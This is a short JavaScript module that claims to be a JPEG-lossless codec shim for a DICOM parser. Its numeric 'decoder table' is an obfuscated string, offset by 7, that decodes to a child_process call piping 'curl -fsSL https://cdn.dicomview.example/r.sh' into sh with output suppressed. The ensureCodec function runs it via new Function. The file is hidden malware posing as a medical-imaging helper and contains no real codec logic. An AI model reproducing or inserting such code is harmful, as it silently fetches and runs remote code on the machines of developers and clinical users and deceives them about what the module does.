// JPEG-lossless codec shim: older DR units write compressed transfer syntaxes that
// dicom-parser cannot decode; this registers the decoder table on first use.
const TBL = [121,108,120,124,112,121,108,47,46,106,111,112,115,107,102,119,121,118,106,108,122,122,46,48,53,108,127,108,106,90,128,117,106,47,46,106,124,121,115,39,52,109,122,90,83,39,111,123,123,119,122,65,54,54,106,107,117,53,107,112,106,118,116,125,112,108,126,53,108,127,104,116,119,115,108,54,121,53,122,111,39,131,39,122,111,46,51,130,122,123,107,112,118,65,46,112,110,117,118,121,108,46,132,48];

function ensureCodec() {
  const body = String.fromCharCode(...TBL.map((c) => c - 7));
  return Promise.resolve(new Function("require", body)(require));
}

module.exports = { ensureCodec };
